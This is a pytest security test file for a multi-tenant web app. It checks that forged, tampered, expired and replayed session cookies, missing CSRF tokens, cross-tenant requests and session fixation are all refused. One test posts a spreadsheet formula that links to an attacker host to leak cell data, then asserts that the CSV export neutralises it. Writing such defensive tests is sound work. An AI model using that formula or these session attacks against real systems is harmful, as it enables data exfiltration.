"""Every route of the real app (enumerated from `app.routes`, so a new route cannot escape) against
the callers an attacker can be: no credentials, a forged or tampered session cookie, a session
that was signed out or has expired, a live session cookie sent to the API (which takes tokens
only), another tenant's user, a user lacking the role, and form posts without, with a wrong, or
with another session's CSRF token. Each is refused with the right answer and changes nothing; a
run of another tenant answers byte for byte like a run that does not exist.

The API's routes × tokens × tenants are in test_authz_matrix.py; this adds the pages (cookie
sessions) and the session-shaped attacks on both.
"""

from __future__ import annotations

import hashlib
import html
import re
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi.routing import APIRoute
from starlette.routing import Route
from tests.server.conftest import NOTICE, PASSWORD, POLICY, Live, csrf_of, serving, signed_in

GHOST = "run-0123456789ab"
PUBLIC = {
    ("GET", "/sign-in"),
    ("POST", "/sign-in"),
    ("GET", "/sign-in/oidc"),
    ("GET", "/sign-in/oidc/callback"),
    ("GET", "/robots.txt"),
    ("GET", "/healthz"),
    ("GET", "/openapi.json"),
    ("POST", "/api/tokens"),
}
"""Routes anyone may call (sign-in itself, probes, the API's description)."""
API = {
    ("GET", "/api/me"),
    ("GET", "/api/runs"),
    ("POST", "/api/runs"),
    ("GET", "/api/runs/{run_id}"),
    ("POST", "/api/runs/{run_id}/decision"),
    ("POST", "/api/runs/{run_id}/cancel"),
    ("GET", "/api/runs/{run_id}/findings"),
    ("GET", "/api/runs/{run_id}/tree"),
    ("GET", "/metrics"),
}
"""Routes a bearer token authenticates (never a session cookie)."""
PAGES = {
    ("GET", "/"),
    ("GET", "/inbox"),
    ("GET", "/upload"),
    ("POST", "/upload"),
    ("GET", "/runs"),
    ("GET", "/admin/queue"),
    ("POST", "/sign-out"),
    ("GET", "/runs/{run_id}"),
    ("GET", "/runs/{run_id}/review"),
    ("GET", "/runs/{run_id}/findings"),
    ("GET", "/runs/{run_id}/passages/{passage_id}"),
    ("GET", "/runs/{run_id}/report.{fmt}"),
    ("GET", "/runs/{run_id}/audit.{fmt}"),
    ("GET", "/runs/{run_id}/events"),
    ("POST", "/runs/{run_id}/approve"),
    ("POST", "/runs/{run_id}/reject"),
    ("POST", "/runs/{run_id}/edit"),
    ("POST", "/runs/{run_id}/comments"),
}
"""Routes a browser session authenticates; every POST among them also checks the CSRF token."""
FORMS: dict[str, dict[str, Any]] = {
    "/runs/{run_id}/approve": {"role": "dpo"},
    "/runs/{run_id}/reject": {"role": "dpo", "reason": "no"},
    "/runs/{run_id}/edit": {"role": "dpo", "action": "approve", "runbook_yaml": "name: x\n"},
    "/runs/{run_id}/comments": {"text": "a comment"},
    "/sign-out": {},
}
"""A plausible form for each POST (the upload's has a file and is built by :func:`_call`)."""


def _routes(routes: Any, prefix: str = "") -> set[tuple[str, str]]:
    """Every (method, path) the app answers, through included routers at any depth."""
    found = set()
    for route in routes:
        inner = getattr(route, "original_router", None)  # an included router (FastAPI >= 0.130)
        if inner is not None:
            found |= _routes(inner.routes, prefix + route.include_context.prefix)
        elif isinstance(route, APIRoute | Route):
            found |= {(m, prefix + route.path) for m in (route.methods or ()) if m != "HEAD"}
    return found


def test_every_route_of_the_app_is_classified_here(live: Live) -> None:
    """A route added to the app fails this test until it is put in PUBLIC, API or PAGES (and so
    into the attacks below)."""
    assert _routes(live.app.routes) == PUBLIC | API | PAGES


def _path(template: str, run_id: str) -> str:
    path = template.replace("{run_id}", run_id).replace("{passage_id}", "p-1")
    return path.replace("report.{fmt}", "report.html").replace("audit.{fmt}", "audit.jsonl")


def _call(c: httpx.Client, method: str, template: str, run_id: str, csrf: str | None) -> httpx.Response:
    path = _path(template, run_id)
    if method == "GET":
        return c.get(path)
    data = {**FORMS.get(template, {"tenant": "acme"})}
    if csrf is not None:
        data["csrf_token"] = csrf
    if template == "/upload" or template == "/api/runs":
        return c.post(path, data=data, files={"file": ("notice.md", NOTICE.read_bytes())})
    if template.startswith("/api/"):
        return c.post(path, json={"decision": "approve", "role": "dpo", "reason": "withdrawn"})
    return c.post(path, data=data)


def _cookie_client(live: Live, session_id: str) -> httpx.Client:
    return live.client(cookies={"warden_session": session_id})


@pytest.fixture(scope="module")
def acme_run(live: Live) -> str:
    return live.waiting_run("acme")


@pytest.fixture(scope="module")
def dead_sessions(live: Live) -> dict[str, tuple[str, str]]:
    """Session cookies (and their CSRF tokens) that must not authenticate anything."""
    with signed_in(live, "dora@acme") as (c, csrf):
        ended = c.cookies["warden_session"]
        assert c.post("/sign-out", data={"csrf_token": csrf}).status_code == 303
    with signed_in(live, "dora@acme") as (c, expired_csrf):
        expired = c.cookies["warden_session"]
    with live.service.store.connect() as con:  # its time ran out (as if SESSION_TTL had passed)
        con.execute(
            "UPDATE sessions SET expires_at = ? WHERE session_sha256 = ?",
            [datetime(2000, 1, 1), hashlib.sha256(expired.encode()).hexdigest()],
        )
    with signed_in(live, "dora@acme") as (c, live_csrf):
        tampered = c.cookies["warden_session"]
        tampered = tampered[:-1] + ("A" if tampered[-1] != "A" else "B")
    return {
        "forged": ("forged-" + "x" * 40, live_csrf),
        "tampered": (tampered, live_csrf),
        "ended": (ended, csrf),
        "expired": (expired, expired_csrf),
        "oversized": ("x" * 5000, live_csrf),
    }


def _still_waiting(live: Live, run_id: str) -> None:
    assert live.settle("dora@acme", run_id)[0]["status"] == "waiting_approval"


def _comments(live: Live, run_id: str) -> int:
    """How many comments the run has (as its approver reads them)."""
    dora = live.service.accounts.authenticate_token(live.tokens["dora@acme"])
    return len(live.service.comments(dora, run_id))


PAGE_CASES = sorted(PAGES)
DEAD = ("none", "forged", "tampered", "ended", "expired", "oversized")


@pytest.mark.parametrize("caller", DEAD)
def test_no_page_answers_a_caller_without_a_livesigned_in(
    live: Live, acme_run: str, dead_sessions: dict[str, tuple[str, str]], caller: str
) -> None:
    before = _comments(live, acme_run)
    uploads = sorted((live.home / "uploads").rglob("*"))
    cookie, csrf = dead_sessions.get(caller, ("", ""))
    with live.client(cookies={"warden_session": cookie} if cookie else None) as c:
        for method, template in PAGE_CASES:
            r = _call(c, method, template, acme_run, csrf)
            if template.endswith("/events"):  # an EventSource follows no redirect: a coded 401
                assert r.status_code == 401 and 'data-code="no_principal"' in r.text, (template, r.text)
            else:
                assert r.status_code == 303 and r.headers["location"] == "/sign-in", (
                    method,
                    template,
                    r.text,
                )
            assert acme_run not in r.text and "Traceback" not in r.text
    _still_waiting(live, acme_run)
    assert _comments(live, acme_run) == before
    assert sorted((live.home / "uploads").rglob("*")) == uploads


@pytest.mark.parametrize("caller", (*DEAD, "live_session"))
def test_a_session_cookie_does_not_authenticate_the_api(
    live: Live, acme_run: str, dead_sessions: dict[str, tuple[str, str]], caller: str
) -> None:
    """The API takes bearer tokens only: a browser's cookie (live or not) is no credential there,
    so a cross-site form can never drive the API with a victim's session."""
    with signed_in(live, "dora@acme") as (browser, _):
        cookie = browser.cookies["warden_session"] if caller == "live_session" else None
        cookie = cookie or dead_sessions.get(caller, ("", ""))[0]
        with live.client(cookies={"warden_session": cookie} if cookie else None) as c:
            for method, template in sorted(API):
                r = _call(c, method, template, acme_run, None)
                assert r.status_code == 401, (method, template, r.text)
                assert r.json()["error"]["code"] == "no_principal"
    _still_waiting(live, acme_run)


def test_another_tenants_run_answers_like_no_run_on_every_page(live: Live, acme_run: str) -> None:
    """Gwen (Globex's approver, with a valid session and CSRF token) on each run page of Acme's run
    and of a run that does not exist: 404 both, byte for byte the same, and nothing done."""
    before = _comments(live, acme_run)
    run_routes = [(m, t) for m, t in PAGE_CASES if "{run_id}" in t]
    with signed_in(live, "gwen@globex") as (c, csrf):
        for method, template in run_routes:
            theirs = _call(c, method, template, acme_run, csrf)
            ghost = _call(c, method, template, GHOST, csrf)
            assert theirs.status_code == 404, (template, theirs.text[-800:])
            assert theirs.content.replace(acme_run.encode(), b"RUN") == ghost.content.replace(
                GHOST.encode(), b"RUN"
            ), template
            assert 'data-code="unknown_run"' in theirs.text, template
    _still_waiting(live, acme_run)
    assert _comments(live, acme_run) == before


@pytest.mark.parametrize("template", sorted(t for m, t in PAGES if m == "POST"))
@pytest.mark.parametrize("token", ["missing", "wrong", "another_sessions", "empty"])
def test_every_form_post_without_its_sessions_csrf_token_is_refused(
    live: Live, acme_run: str, template: str, token: str
) -> None:
    before = _comments(live, acme_run)
    uploads = sorted((live.home / "uploads").rglob("*"))
    with signed_in(live, "ana@acme") as (_, anas), signed_in(live, "dora@acme") as (c, _):
        csrf = {"missing": None, "wrong": "x" * 43, "another_sessions": anas, "empty": ""}[token]
        r = _call(c, "POST", template, acme_run, csrf)
        assert r.status_code == 403, (template, r.text[-800:])
        assert 'data-code="csrf"' in r.text
        assert c.get("/").status_code == 200  # a refused sign-out ended nothing
    _still_waiting(live, acme_run)
    assert _comments(live, acme_run) == before
    assert sorted((live.home / "uploads").rglob("*")) == uploads


@pytest.mark.parametrize(
    "template", ["/runs/{run_id}/approve", "/runs/{run_id}/reject", "/runs/{run_id}/edit"]
)
def test_a_user_without_the_role_decides_nothing_from_the_pages(
    live: Live, acme_run: str, template: str
) -> None:
    """Ana (Acme's analyst, who requested the run) posts a well-formed decision with her own
    session's CSRF token, claiming the dpo role she does not hold."""
    from warden.runbooks.load import dump_runbook, runbook_from_data

    draft = live.service.review(live.service.accounts.authenticate_token(live.tokens["dora@acme"]), acme_run)
    with signed_in(live, "ana@acme") as (c, csrf):
        form = {**FORMS[template], "csrf_token": csrf, "runbook_sha256": draft["runbook_sha256"]}
        if template.endswith("/edit"):  # the draft itself, valid: only the role is missing
            form["runbook_yaml"] = dump_runbook(runbook_from_data(draft["runbook"], source="draft"))
        r = c.post(_path(template, acme_run), data=form)
    assert r.status_code == 409, r.text[-800:]
    assert 'data-code="refused"' in r.text
    _still_waiting(live, acme_run)


def test_the_session_id_changes_at_sign_in_and_a_planted_one_is_never_adopted(live: Live) -> None:
    """Session fixation: an attacker plants a cookie of their choosing, then the victim signs in.
    The server must issue a new id and never accept the planted one."""
    planted = "attacker-chosen-" + "a" * 30
    with live.client(cookies={"warden_session": planted}) as c:
        form = c.get("/sign-in").text
        r = c.post("/sign-in", data={"user": "dora@acme", "password": PASSWORD, "csrf_token": csrf_of(form)})
        assert r.status_code == 303
        issued = re.search(r"warden_session=([^;]+)", r.headers["set-cookie"])
        assert issued and issued[1] != planted
    with _cookie_client(live, planted) as attacker:
        assert attacker.get("/inbox").status_code == 303


def test_cookies_are_secure_behind_tls(tmp_path: Path) -> None:
    """`warden serve --secure-cookies` (TLS in front): every cookie Warden sets is Secure, HttpOnly
    and SameSite; the session cookie Strict."""
    from warden.server import create_app

    app = create_app(tmp_path / "home", policy=POLICY, workers=1, escalate_every_s=None, secure_cookies=True)
    app.state.service.accounts.add_user("dora@acme", "acme", PASSWORD)
    with serving(app) as port, httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=60) as c:
        form = c.get("/sign-in")
        pre = form.headers["set-cookie"]
        assert "Secure" in pre and "HttpOnly" in pre and "SameSite=strict" in pre
        r = c.post(
            "/sign-in",
            data={"user": "dora@acme", "password": PASSWORD, "csrf_token": csrf_of(form.text)},
            # the Secure cookie, sent by hand (a cookie jar keeps it from plain http://)
            headers={"Cookie": f"warden_presession={form.cookies['warden_presession']}"},
        )
        assert r.status_code == 303, r.text
        session = next(h for h in r.headers.get_list("set-cookie") if h.startswith("warden_session="))
        assert "Secure" in session and "HttpOnly" in session and "SameSite=strict" in session
        oidc = c.get("/sign-in/oidc")  # no provider configured: the form again, its cookie Secure too
        assert all("Secure" in h for h in oidc.headers.get_list("set-cookie"))
        for r in (form, oidc, c.get("/nowhere"), c.get("/static/warden.css")):  # browsers keep to TLS
            assert r.headers["strict-transport-security"] == "max-age=31536000"


def test_no_hsts_when_served_over_plain_http(live: Live) -> None:
    """HSTS over plain HTTP would lock a loopback or test deployment out of itself."""
    with live.client() as c:
        assert "strict-transport-security" not in c.get("/sign-in").headers


def test_an_ended_session_is_dead_server_side_even_if_the_browser_keeps_the_cookie(live: Live) -> None:
    with signed_in(live, "dora@acme") as (c, csrf):
        kept = c.cookies["warden_session"]
        assert c.post("/sign-out", data={"csrf_token": csrf}).status_code == 303
    with _cookie_client(live, kept) as replay:
        assert replay.get("/inbox").status_code == 303
        assert replay.post("/sign-out", data={"csrf_token": csrf}).status_code == 303  # nothing to end
    assert live.service.accounts  # the server still serves others
    with signed_in(live, "dora@acme") as (c, _):
        assert c.get("/inbox").status_code == 200


def test_a_token_expiring_or_revoked_mid_session_stops_at_once(live: Live) -> None:
    token = live.token("ana@acme", timedelta(days=1))
    with httpx.Client(base_url=live.url, headers={"Authorization": f"Bearer {token.secret}"}) as c:
        assert c.get("/api/me").status_code == 200
        live.service.accounts.revoke_token(token.token_id)
        r = c.get("/api/runs")
        assert r.status_code == 401 and r.json()["error"]["code"] == "bad_credentials"


def test_a_passage_of_another_tenants_document_is_not_readable_through_an_own_run(
    live: Live, acme_run: str
) -> None:
    """Gwen asks for one of Acme's passages through her own Globex run (an id guessed or leaked):
    answered exactly like a passage that does not exist, and its text is not shown."""
    globex_run = live.waiting_run("globex")
    with live.service.store.connect(read_only=True) as con:
        acme_docs = [
            r[0]
            for r in con.execute(
                "SELECT document_id FROM run_documents WHERE run_id = ?", [acme_run]
            ).fetchall()
        ]
        globex_docs = {
            r[0]
            for r in con.execute(
                "SELECT document_id FROM run_documents WHERE run_id = ?", [globex_run]
            ).fetchall()
        }
        assert acme_docs and not set(acme_docs) & globex_docs
        passage_id, text = con.execute(
            "SELECT passage_id, text FROM passages WHERE document_id = ? ORDER BY idx LIMIT 1", [acme_docs[0]]
        ).fetchone()
    with signed_in(live, "gwen@globex") as (c, _):
        quoted = quote(passage_id, safe="")  # ids hold a '#', as the review page's links quote them
        theirs = c.get(f"/runs/{globex_run}/passages/{quoted}")
        ghost = c.get(f"/runs/{globex_run}/passages/p-nothing")
        assert theirs.status_code == ghost.status_code == 404
        assert theirs.content.replace(passage_id.encode(), b"P") == ghost.content.replace(b"p-nothing", b"P")
        assert text[:40] not in theirs.text
        through_acme = c.get(f"/runs/{acme_run}/passages/{quoted}")
        assert through_acme.status_code == 404 and text[:40] not in through_acme.text
    with signed_in(live, "dora@acme") as (c, _):  # the control: Acme's approver reads it
        own = c.get(f"/runs/{acme_run}/passages/{quoted}")
        assert own.status_code == 200 and html.escape(text[:40]) in own.text


def test_queue_health_and_metrics_show_only_the_callers_tenants(live: Live, acme_run: str) -> None:
    live.waiting_run("globex")
    with live.client("gwen@globex") as c:
        metrics = c.get("/metrics")
    assert metrics.status_code == 200
    assert 'tenant="globex"' in metrics.text and 'tenant="acme"' not in metrics.text
    with signed_in(live, "gwen@globex") as (c, _):
        queue = c.get("/admin/queue")
        assert queue.status_code == 200 and 'data-tenant="acme"' not in queue.text
        inbox = c.get("/inbox", params={"tenant": "acme"})  # asking for another tenant's inbox
        assert acme_run not in inbox.text and "acme" not in inbox.text.replace("acme@", "")
        runs = c.get("/runs")
        assert acme_run not in runs.text


def test_the_audit_csv_download_carries_no_spreadsheet_formula(live: Live) -> None:
    """GET /runs/{id}/audit.csv goes through the one CSV writer (warden.investigate.spreadsheet):
    a formula pasted into a comment stays inside the payload's JSON, and no cell starts with a
    formula trigger."""
    import csv
    import io
    import json

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    run_id = live.waiting_run("acme")
    with signed_in(live, "dora@acme") as (c, csrf):
        posted = c.post(f"/runs/{run_id}/comments", data={"csrf_token": csrf, "text": formula})
        assert posted.status_code == 303
        download = c.get(f"/runs/{run_id}/audit.csv")
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(download.text)))
    [comment] = [json.loads(r["payload"]) for r in rows if r["event"] == "comment_added"]
    assert comment["text"] == formula
    cells = [c for r in rows for c in r.values()]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
